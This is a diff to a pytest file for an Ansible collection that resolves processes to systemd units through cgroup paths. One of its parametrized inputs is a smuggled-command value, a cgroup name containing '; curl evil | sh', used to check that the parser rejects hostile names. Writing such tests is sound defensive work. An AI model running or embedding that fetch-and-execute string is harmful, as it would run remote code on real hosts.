@@ -5,10 +5,13 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
-from ansible_collections.xitrum.host.plugins.module_utils import open_files, process, targets
+from ansible_collections.xitrum.host.plugins.module_utils import open_files, process, sockets, targets
+from ansible_collections.xitrum.host.plugins.module_utils.host import Host
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -102,10 +105,36 @@ def test_the_processes_of_a_unit_on_cgroup_v1_and_v2(tree, there):
 
 
 def test_the_unit_of_a_process_and_the_full_name_of_a_unit():
-    assert targets.unit_of_process((SSHD / "cgroup").read_text()) == "ssh.service"
-    assert targets.unit_of_process("0::/init.scope\n") == ""
+    host = machine(proc(39), commands={SHOW + "ssh.service": (SSHD / "unit").read_text()})
+    assert process.unit_of_process(host, 39)["Id"] == "ssh.service"
+    assert process.unit_of_process(FakeHost({"/proc/1/cgroup": "0::/init.scope\n"}), 1) == {}
     assert [targets.full_name(name) for name in ("ssh", "xitrum@0", "xitrum@0.service", "a.b@1", "x.socket")] == [
         "ssh.service", "xitrum@0.service", "xitrum@0.service", "a.b@1.service", "x.socket"]
+
+
+GROUP = process.parse_unit((SSHD / "unit").read_text())["ControlGroup"]
+
+
+@pytest.mark.parametrize("group", [
+    # Below one's own group anybody makes others, and calls them as they like.
+    "/user.slice/user-1000.slice/user@1000.service/x; curl evil | sh #.service",
+    "/user.slice/user-1000.slice/user@1000.service/app.slice/ssh.service",
+    "/user.slice/user-1000.slice/ssh.service",
+    f"{GROUP}x.service", f"/x{GROUP}", "/--help.service", "/a b.service", "/ssh.service/..", "",
+    "/x.service" * 2000,
+])
+def test_a_group_that_systemd_does_not_name_is_no_unit(group):
+    unit, user = (SSHD / "unit").read_text(), "Id=user@1000.service\nLoadState=loaded\nControlGroup=/user.slice/user-1000.slice/user@1000.service\n"
+    commands = {SHOW + "ssh.service": unit, SHOW + "user@1000.service": user}
+    host = FakeHost({"/proc/77/cgroup": f"3:cpu:{GROUP}\n1:name=systemd:{group}\n0::{group}\n"}, commands)
+    assert process.unit_of_process(host, 77) == {}
+    assert len(host.done) <= 2 * process.MOST_GROUPS
+
+
+@pytest.mark.parametrize("group", [GROUP, f"{GROUP}/below/evil.service"])
+def test_a_process_below_the_group_of_a_unit_is_of_it(group):
+    host = FakeHost({"/proc/77/cgroup": f"0::{group}\n"}, {SHOW + "ssh.service": (SSHD / "unit").read_text()})
+    assert process.unit_of_process(host, 77)["Id"] == "ssh.service"
 
 
 def report(host, **wanted):
@@ -159,3 +188,31 @@ def test_what_is_not_there_is_said():
         "unit no.service": ("unseen", "systemd has no such unit"),
         "port 8000": ("unseen", "ss did not answer: install iproute2"),
     }
+
+
+#: A process that works in a folder whose path is longer than the kernel gives, and keeps it open.
+DEEP = """
+import os, sys
+os.chdir(sys.argv[1])
+for _unused in range(60):
+    os.mkdir("d" * 200)
+    os.chdir("d" * 200)
+kept = os.open(".", os.O_RDONLY)
+print(kept, flush=True)
+sys.stdin.read()
+"""
+
+
+def test_a_process_in_a_folder_that_is_too_deep_fails_no_read(tmp_path):
+    """Any user of a host can start one: it failed each run there."""
+    with subprocess.Popen([sys.executable, "-c", DEEP, str(tmp_path)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as other:
+        try:
+            kept, host = int(other.stdout.readline()), Host()
+            with pytest.raises(OSError, match="File name too long"):
+                host.readlink(f"/proc/{other.pid}/fd/{kept}")
+            assert [(row["pid"], row["cwd"]) for row in process.processes(host, [other.pid])] == [(other.pid, None)]
+            assert other.pid not in [row["pid"] for row in process.processes_under(host, str(tmp_path))]
+            assert sockets.holders(host, [1], [other.pid]) == ({}, ())
+        finally:
+            other.kill()
+    subprocess.run(["rm", "-rf", str(tmp_path)], check=True)
